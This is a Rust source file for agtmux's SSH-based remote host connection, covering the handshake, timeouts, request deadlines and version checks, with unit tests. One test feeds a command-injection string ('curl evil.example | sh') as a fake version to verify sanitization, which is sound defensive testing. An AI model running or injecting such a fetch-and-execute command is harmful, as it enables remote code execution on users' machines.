//! One connection to agtmux on another host, over the standard streams of `ssh host agtmux collect --stdio`.

use std::collections::HashMap;
use std::sync::atomic::Ordering;
use std::time::Duration;

use agtmux_api::VERSION;
use agtmux_api::host_protocol::{
    EvidenceBatch, HostHello, HostLine, HubLine, NumberedRequest, PROTOCOL_VERSIONS, ReplyOutcome, VersionGap,
};
use agtmux_core::sanitize;
use agtmux_core::target::TargetFault;
use agtmux_tmux::host::find_agtmux_commands;
use agtmux_tmux::ssh::{ConnectionSharing, ProcessGroup, SshClient};
use bytes::{Buf, Bytes, BytesMut};
use jiff::{SignedDuration, Timestamp};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::process::{ChildStdin, ChildStdout};
use tokio::sync::oneshot;
use tokio::task::JoinHandle;
use tokio::time::{Instant, sleep_until, timeout};

use super::connection_end::{ConnectionEnd, classify_exit};
use super::line_reader::LineReader;
use super::link::TargetRequest;
use super::timeouts::{SILENCE_TIMEOUT, SSH_EXIT_TIMEOUT, WRITE_TIMEOUT};
use crate::clock::Clock;

/// The script inside the quotes contains no single quotes, so that every login shell passes it as one word.
fn collect_command() -> String {
    format!("exec sh -c '{}exec agtmux collect --stdio'", find_agtmux_commands())
}

/// No more requests are accepted while this many bytes wait to be written.
const MAX_UNWRITTEN_BYTES: usize = 1 << 20;
/// The assumed throughput of a slow link.
const SLOW_LINK_BYTES_PER_SECOND: usize = 32 << 10;
/// How many bytes a login shell may print before the host's agtmux sends its hello. If there are more, agtmux assumes
/// that the output does not come from agtmux.
const MAX_GREETING_BYTES: usize = 64 << 10;
const MAX_STDERR_BYTES: u64 = 8 << 10;
/// A longer line is parsed on another thread, because parsing it takes milliseconds.
pub(super) const MAX_QUICK_LINE_BYTES: usize = 64 << 10;

pub(super) struct CollectConnection {
    /// ssh and all processes that it started.
    group: ProcessGroup,
    input: ChildStdin,
    /// Bytes to be written.
    unwritten: BytesMut,
    last_write_at: Instant,
    lines: LineReader<ChildStdout>,
    /// When the host was last known to be alive.
    last_seen_at: Instant,
    stderr: tokio::task::JoinHandle<String>,
    /// A long line that is being parsed.
    parsing: Option<JoinHandle<serde_json::Result<HostLine>>>,
    /// The size of the lines that were read but not yet reported by `take_uncounted_bytes`.
    uncounted_bytes: usize,
    pending: HashMap<u64, oneshot::Sender<ReplyOutcome>>,
    last_id: u64,
    clock: Clock,
    /// How far the remote clock is ahead of ours, according to the last hello or heartbeat. A delayed message makes the
    /// value smaller, never larger.
    remote_clock_ahead: SignedDuration,
}

impl CollectConnection {
    /// Connects and returns when the host has sent its hello.
    pub(super) async fn open(
        ssh: &SshClient,
        clock: Clock,
        within: Duration,
    ) -> Result<(Self, HostHello), ConnectionEnd> {
        // Remove an old control socket: the ssh process that listens on it is not ours, or is stuck.
        ssh.remove_control_socket();
        let mut connection = Self::start(ssh, clock)?;
        match timeout(within, connection.handshake()).await {
            Ok(Ok(hello)) => Ok((connection, hello)),
            Ok(Err(end)) => Err(end),
            Err(_) => {
                Err(ConnectionEnd::new(TargetFault::NoResponse, format!("no answer within {} s", within.as_secs())))
            }
        }
    }

    fn start(ssh: &SshClient, clock: Clock) -> Result<Self, ConnectionEnd> {
        let mut command = ssh.command(ConnectionSharing::Shared, collect_command());
        command.stdin(std::process::Stdio::piped());
        let start_error = |error: std::io::Error| {
            ConnectionEnd::new(TargetFault::Unreachable, format!("could not start ssh: {error}"))
        };
        let mut group = ProcessGroup::new(command.spawn().map_err(start_error)?);
        let child = group.child();
        let (Some(input), Some(output), Some(errors)) = (child.stdin.take(), child.stdout.take(), child.stderr.take())
        else {
            return Err(ConnectionEnd::new(TargetFault::Unreachable, "ssh has no pipes"));
        };
        let stderr = tokio::spawn(async move {
            let mut bytes = Vec::new();
            let _ = errors.take(MAX_STDERR_BYTES).read_to_end(&mut bytes).await;
            String::from_utf8_lossy(&bytes).into_owned()
        });
        let now = Instant::now();
        Ok(Self {
            group,
            input,
            unwritten: BytesMut::new(),
            last_write_at: now,
            lines: LineReader::new(output),
            last_seen_at: now,
            stderr,
            parsing: None,
            uncounted_bytes: 0,
            pending: HashMap::new(),
            last_id: 0,
            clock,
            remote_clock_ahead: SignedDuration::ZERO,
        })
    }

    async fn handshake(&mut self) -> Result<HostHello, ConnectionEnd> {
        self.queue_line(&HubLine::Hello { protocol: PROTOCOL_VERSIONS, version: VERSION.into() });
        // If ssh has already exited, its exit status explains more than the broken pipe.
        let _ = self.input.write_all_buf(&mut self.unwritten).await;
        self.unwritten.clear();
        let mut greeting_bytes = 0;
        loop {
            let line = match self.lines.next_line().await {
                Ok(Some(line)) => line,
                Ok(None) => return Err(self.end_reason().await),
                Err(error) => return Err(ConnectionEnd::new(TargetFault::Disconnected, error)),
            };
            match serde_json::from_slice(&line) {
                Ok(HostLine::Hello(hello)) => {
                    self.last_seen_at = Instant::now();
                    self.remote_clock_ahead = hello.now.duration_since(self.clock.now());
                    return check_version(hello);
                }
                _ => greeting_bytes += line.len() + 1,
            }
            if greeting_bytes > MAX_GREETING_BYTES {
                return Err(ConnectionEnd::new(
                    TargetFault::VersionMismatch,
                    "the output of ssh does not come from agtmux",
                ));
            }
        }
    }

    /// Handles the next message. Returns the evidence of a batch, `None` after a heartbeat or a reply, or an error that
    /// says why the connection ended. Cancel-safe: no message is lost if the future is dropped.
    pub(super) async fn next_message(&mut self) -> Result<Option<EvidenceBatch>, ConnectionEnd> {
        let message = self.next_parsed().await?;
        let mut batch = None;
        match message {
            Ok(HostLine::Batch(evidence)) => batch = Some(evidence),
            Ok(HostLine::Heartbeat { now }) => self.remote_clock_ahead = now.duration_since(self.clock.now()),
            Ok(HostLine::Reply(reply)) => {
                let is_lost = matches!(reply.outcome, ReplyOutcome::Lost(_));
                if let Some(waiting) = self.pending.remove(&reply.id) {
                    let _ = waiting.send(reply.outcome);
                }
                if is_lost {
                    // `collect` runs, but its daemon does not answer. Such a reply does not count as a sign of life.
                    return Ok(None);
                }
            }
            Ok(HostLine::Hello(_)) | Err(_) => {
                return Err(ConnectionEnd::new(TargetFault::VersionMismatch, "the host sent an unknown message"));
            }
        }
        self.last_seen_at = self.lines.last_read_at();
        Ok(batch)
    }

    /// The total size of the lines that were read since the last call, in bytes.
    pub(super) fn take_uncounted_bytes(&mut self) -> usize {
        std::mem::take(&mut self.uncounted_bytes)
    }

    /// Writes queued requests, and returns only when the connection ends. Used while reading from the host is paused.
    /// Cancel-safe.
    pub(super) async fn only_write(&mut self) -> ConnectionEnd {
        loop {
            if self.unwritten.is_empty() {
                std::future::pending::<()>().await;
            }
            match self.input.write(&self.unwritten).await {
                Ok(count) => {
                    self.unwritten.advance(count);
                    self.last_write_at = Instant::now();
                }
                Err(_) => return self.end_reason().await,
            }
        }
    }

    /// The next line, parsed. A line that is being parsed is not lost if the future is dropped.
    async fn next_parsed(&mut self) -> Result<serde_json::Result<HostLine>, ConnectionEnd> {
        if self.parsing.is_none() {
            let line = self.next_line().await?;
            self.uncounted_bytes += line.len();
            if line.len() <= MAX_QUICK_LINE_BYTES {
                return Ok(serde_json::from_slice(&line));
            }
            self.parsing = Some(tokio::task::spawn_blocking(move || serde_json::from_slice(&line)));
        }
        let Some(parsing) = &mut self.parsing else { unreachable!("set above") };
        let parsed = parsing.await;
        self.parsing = None;
        parsed.map_err(|_| ConnectionEnd::new(TargetFault::Disconnected, "a message of the host could not be parsed"))
    }

    /// Waits for the next line and writes pending requests meanwhile. If the requests were written first, a blocked
    /// write would hide that the host has gone silent.
    async fn next_line(&mut self) -> Result<Bytes, ConnectionEnd> {
        loop {
            let (silent_at, stuck_at) = (self.silence_deadline(), self.write_deadline());
            tokio::select! {
                // Check for received lines first: they are a sign of life even if they are read late.
                biased;
                line = self.lines.next_line() => return match line {
                    Ok(Some(line)) => Ok(line),
                    Ok(None) => Err(self.end_reason().await),
                    Err(error) => Err(ConnectionEnd::new(TargetFault::Disconnected, error)),
                },
                written = self.input.write(&self.unwritten), if !self.unwritten.is_empty() => match written {
                    Ok(count) => {
                        self.unwritten.advance(count);
                        self.last_write_at = Instant::now();
                    }
                    Err(_) => return Err(self.end_reason().await),
                },
                () = sleep_until(silent_at.min(stuck_at)) => {
                    let now = Instant::now();
                    if self.silence_deadline() <= now {
                        let message = format!("no message for {} s", SILENCE_TIMEOUT.as_secs());
                        return Err(ConnectionEnd::new(TargetFault::NoResponse, message));
                    }
                    if self.write_deadline() <= now {
                        return Err(ConnectionEnd::new(TargetFault::NoResponse, "the host no longer reads requests"));
                    }
                }
            }
        }
    }

    /// When the host counts as silent. Even a part of a line shows that the host is alive, because a long line takes
    /// time on a slow link.
    fn silence_deadline(&self) -> Instant {
        self.lines.partial_line_at().unwrap_or(self.last_seen_at).max(self.last_seen_at) + SILENCE_TIMEOUT
    }

    /// When the host counts as stuck. While no bytes wait to be written, this is always `WRITE_TIMEOUT` from now.
    fn write_deadline(&self) -> Instant {
        let since = if self.unwritten.is_empty() { Instant::now() } else { self.last_write_at };
        since + WRITE_TIMEOUT
    }

    /// Whether the connection accepts another request.
    pub(super) fn has_room(&self) -> bool {
        self.unwritten.len() < MAX_UNWRITTEN_BYTES
    }

    /// Queues a request for the next write.
    pub(super) fn send_request(&mut self, request: TargetRequest) {
        if request.reply.is_closed() {
            return;
        }
        // Drop requests whose callers gave up.
        self.pending.retain(|_, waiting| !waiting.is_closed());
        self.last_id += 1;
        self.pending.insert(self.last_id, request.reply);
        request.sent.store(true, Ordering::SeqCst);
        let mut action = request.action;
        if action.kind().is_mutating() {
            let size = serde_json::to_vec(&action).map_or(0, |bytes| bytes.len());
            action.set_deadline(self.deadline_on_host(self.unwritten.len() + size));
        }
        self.queue_line(&HubLine::Request(NumberedRequest { id: self.last_id, action: Box::new(action) }));
    }

    /// The time on the host's clock at which the hub gives up this connection if the host stays silent. `size` is the
    /// number of bytes that the hub must send first, including the request. The host must not run the request after
    /// that time, because by then the hub has told the caller that the request may be lost.
    fn deadline_on_host(&self, size: usize) -> Option<Timestamp> {
        let left = (self.silence_deadline() + transfer_time(size)).saturating_duration_since(Instant::now());
        self.clock.now().checked_add(self.remote_clock_ahead).ok()?.checked_add(left).ok()
    }

    fn queue_line(&mut self, line: &HubLine) {
        // Requests were deserialized from JSON, so serializing cannot fail.
        let Ok(bytes) = serde_json::to_vec(line) else { return };
        if self.unwritten.is_empty() {
            self.last_write_at = Instant::now();
        }
        self.unwritten.extend_from_slice(&bytes);
        self.unwritten.extend_from_slice(b"\n");
    }

    /// Why the connection ended, according to the exit status and stderr of ssh.
    async fn end_reason(&mut self) -> ConnectionEnd {
        let (child, stderr) = (self.group.child(), &mut self.stderr);
        let (status, stderr) = tokio::join!(timeout(SSH_EXIT_TIMEOUT, child.wait()), timeout(SSH_EXIT_TIMEOUT, stderr));
        let stderr = stderr.ok().and_then(Result::ok).unwrap_or_default();
        classify_exit(status.ok().and_then(Result::ok), &stderr)
    }
}

fn transfer_time(bytes: usize) -> Duration {
    Duration::from_secs((bytes / SLOW_LINK_BYTES_PER_SECOND) as u64)
}

fn check_version(hello: HostHello) -> Result<HostHello, ConnectionEnd> {
    let Err(gap) = PROTOCOL_VERSIONS.negotiate(hello.protocol) else { return Ok(hello) };
    let version = sanitize::for_terminal(&hello.version.chars().take(32).collect::<String>());
    let older = if gap == VersionGap::PeerTooOld { "on the host" } else { "here" };
    let message = format!(
        "agtmux {version} on the host uses protocol {}, agtmux {VERSION} here uses {}; agtmux {older} is too old",
        hello.protocol.max, PROTOCOL_VERSIONS.max
    );
    // The host chooses this text, and a hint repeats it to the user. So allow only plain characters.
    let is_plain = |c: char| c.is_ascii_alphanumeric() || ".+-".contains(c);
    let plain = !version.is_empty() && version.chars().all(is_plain);
    let newer_host = if plain { format!("agtmux {version}") } else { "a newer agtmux".into() };
    let newer_host = (gap == VersionGap::PeerTooNew).then_some(newer_host);
    Err(ConnectionEnd { newer_host, ..ConnectionEnd::new(TargetFault::VersionMismatch, message) })
}

#[cfg(test)]
mod tests {
    use super::super::test_process::{self, SOON};
    use super::*;
    use agtmux_api::host_protocol::HubRequest;
    use agtmux_api::wire::SendAction;
    use std::path::Path;
    use std::sync::Arc;
    use std::sync::atomic::AtomicBool;

    const HELLO: &str =
        r#"echo '{"type":"hello","collect":2,"version":"9","now":"2026-01-01T00:00:00Z","tmux_versions":[]}'"#;

    /// Creates a fake ssh that sends a hello and then runs the shell commands `then`.
    fn ssh(dir: &Path, then: &str) -> SshClient {
        use std::os::unix::fs::PermissionsExt;
        let program = dir.join("ssh");
        std::fs::write(&program, format!("#!/bin/sh\n{HELLO}\n{then}\n")).expect("written");
        std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).expect("permissions are set");
        SshClient::new(program, "vm1", dir.join("control"))
    }

    async fn open_connection(dir: &Path, then: &str) -> CollectConnection {
        CollectConnection::open(&ssh(dir, then), Clock::start(), SOON).await.expect("the host sends a hello").0
    }

    /// Returns why and after how long the connection was given up.
    async fn wait_until_given_up(mut connection: CollectConnection) -> (TargetFault, Duration) {
        let began = Instant::now();
        let end = async {
            loop {
                if let Err(end) = connection.next_message().await {
                    return end.fault;
                }
            }
        };
        let fault = timeout(SOON, end).await.expect("the connection is given up");
        (fault, began.elapsed())
    }

    fn long_text() -> (TargetRequest, oneshot::Receiver<ReplyOutcome>) {
        let (reply, answer) = oneshot::channel();
        let action = HubRequest::Send(SendAction { text: Some("x".repeat(900 << 10)), ..SendAction::default() });
        (TargetRequest { action, sent: Arc::new(AtomicBool::new(false)), reply }, answer)
    }

    /// A pending long text does not extend the silence timeout.
    #[tokio::test]
    async fn a_host_that_reads_nothing_is_given_up_in_time() {
        let dir = tempfile::tempdir().expect("a directory");
        let mut connection = open_connection(dir.path(), "exec sleep 600").await;
        let (request, _answer) = long_text();
        connection.send_request(request);
        assert!(connection.has_room() && !connection.unwritten.is_empty());
        // The host stays silent, so only timers are left.
        tokio::time::pause();
        let (fault, after) = wait_until_given_up(connection).await;
        assert_eq!(fault, TargetFault::NoResponse);
        assert!(after < SILENCE_TIMEOUT + Duration::from_secs(2), "{after:?}");
    }

    /// `agtmux collect` can keep running while the daemon of its host hangs.
    #[tokio::test]
    async fn a_daemon_that_does_not_answer_counts_as_silent() {
        let dir = tempfile::tempdir().expect("a directory");
        let lost = r#"while echo '{"type":"reply","id":1,"outcome":{"lost":"no answer"}}'; do sleep 0.5; done"#;
        let (fault, after) = wait_until_given_up(open_connection(dir.path(), lost).await).await;
        assert_eq!(fault, TargetFault::NoResponse);
        assert!(after < SILENCE_TIMEOUT + Duration::from_secs(2), "{after:?}");
    }

    /// ssh may have started a helper, such as a ProxyCommand.
    #[tokio::test]
    async fn helper_processes_of_ssh_end_with_the_connection() {
        let dir = tempfile::tempdir().expect("a directory");
        let left = dir.path().join("left");
        let then =
            format!("(trap '' TERM HUP; exec 0<&- 1>&- 2>&-; exec sleep 600) & echo $! >{}; wait", left.display());
        let connection = open_connection(dir.path(), &then).await;
        let id = test_process::wait_for_pid_file(&left).await;
        drop(connection);
        test_process::wait_for_exit(id).await;
    }

    #[test]
    fn a_version_mismatch_names_the_side_to_update() {
        let hello_from = |collect: u32, version: &str| {
            let json = format!(
                r#"{{"collect":{collect},"version":"{version}","now":"2026-01-01T00:00:00Z","tmux_versions":[],"more":1}}"#
            );
            check_version(serde_json::from_str(&json).expect("a hello"))
        };
        let hello = |collect| hello_from(collect, "9");
        assert!(hello(PROTOCOL_VERSIONS.max).is_ok());
        let old = hello(1).expect_err("protocol 1 is not supported");
        assert!(old.message.ends_with("agtmux on the host is too old") && old.newer_host.is_none(), "{old:?}");
        let new = hello(99).expect_err("protocol 99 is not supported");
        assert!(new.message.ends_with("agtmux here is too old"), "{new:?}");
        assert_eq!(new.newer_host.as_deref(), Some("agtmux 9"));
        for text in ["9; curl evil.example | sh", ""] {
            let newer = hello_from(99, text).expect_err("protocol 99 is not supported").newer_host;
            assert_eq!(newer.as_deref(), Some("a newer agtmux"));
        }
    }

    #[test]
    fn the_collect_command_has_no_inner_quotes() {
        let command = collect_command();
        let inner = command.strip_prefix("exec sh -c '").and_then(|rest| rest.strip_suffix('\''));
        assert!(inner.is_some_and(|inner| !inner.contains('\'') && !inner.contains('\\')));
    }
}
